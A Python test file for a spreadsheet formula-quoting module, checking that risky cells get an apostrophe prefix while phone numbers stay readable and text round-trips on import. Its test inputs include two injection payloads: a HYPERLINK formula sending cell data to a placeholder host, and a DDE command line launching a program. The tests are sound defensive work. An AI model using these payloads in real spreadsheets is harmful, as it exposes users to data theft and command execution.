"""Text cells no spreadsheet reads as formulas (``qstui.domain.formulas``): the OWASP
quote, the phone numbers left readable, and the way back that the import takes."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qstui.domain.formulas import TRIGGERS, quote_formula, unquote_formula


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x/?d="&B3,"Open")', '\'=HYPERLINK("http://x/?d="&B3,"Open")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("-A1", "'-A1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" =1", "' =1"),
        ("'=1", "''=1"),
        ("+7 495 111-22-33", "+7 495 111-22-33"),  # no letter, no reference: readable
        ("+7 (495) 111-22-33", "+7 (495) 111-22-33"),
        ("-100.00", "-100.00"),
        ("8 495 111-22-33", "8 495 111-22-33"),
        ("ООО «Ромашка»", "ООО «Ромашка»"),
        ("'quoted'", "'quoted'"),
        ("", ""),
    ],
)
def test_quote_formula(text, cell):
    assert quote_formula(text) == cell
    assert unquote_formula(cell) == text


def test_a_cell_quoted_by_another_program_reads_as_its_text():
    assert unquote_formula("'+7 495 111-22-33") == "+7 495 111-22-33"
    assert unquote_formula("'-5") == "-5"
    assert unquote_formula("'abc") == "'abc"  # not a quote of a formula


_TEXT = st.text(alphabet=st.sampled_from([*TRIGGERS, "'", " ", "1", "7", "(", ".", "A", "я"]))


@given(_TEXT)
def test_every_text_reads_back_and_never_starts_a_formula(text):
    cell = quote_formula(text)
    assert unquote_formula(cell) == text
    if cell.lstrip("' ").startswith(TRIGGERS):
        # only a quote in front, or the harmless sign + digits of a phone number
        assert cell.startswith("'") or set(cell[1:]) <= set("0123456789 ().-")
